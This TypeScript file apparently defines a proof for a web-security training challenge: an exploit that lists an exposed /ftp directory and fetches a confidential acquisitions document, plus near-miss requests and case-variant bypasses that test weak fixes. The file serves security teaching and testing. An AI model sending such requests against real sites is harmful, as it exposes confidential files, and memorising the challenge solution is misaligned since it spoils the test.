import { prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const listing = await attacker.get('/ftp', { headers: { accept: 'application/json' } })
    const names: string[] = listing.status === 200 ? listing.json() : ['acquisitions.md']
    await attacker.get(`/ftp/${names.find((name) => name.startsWith('acqui'))}`)
  },
  nearMisses: {
    'the list of names alone': (attacker) => attacker.get('/ftp'),
    'the legal notice': (attacker) => attacker.get('/ftp/legal.md'),
    'a document that is not there': (attacker) => attacker.get('/ftp/acquisition.md'),
    'the name with another ending': (attacker) => attacker.get('/ftp/acquisitions.md.bak'),
    'the name as a folder': (attacker) => attacker.get('/ftp/acquisitions.md/legal.md'),
  },
  bypasses: {
    'hide-the-listing': (attacker) => attacker.get('/ftp/acquisitions.md'),
    'refuse-the-document': (attacker) => attacker.get('/ftp/Acquisitions.MD'),
  },
})
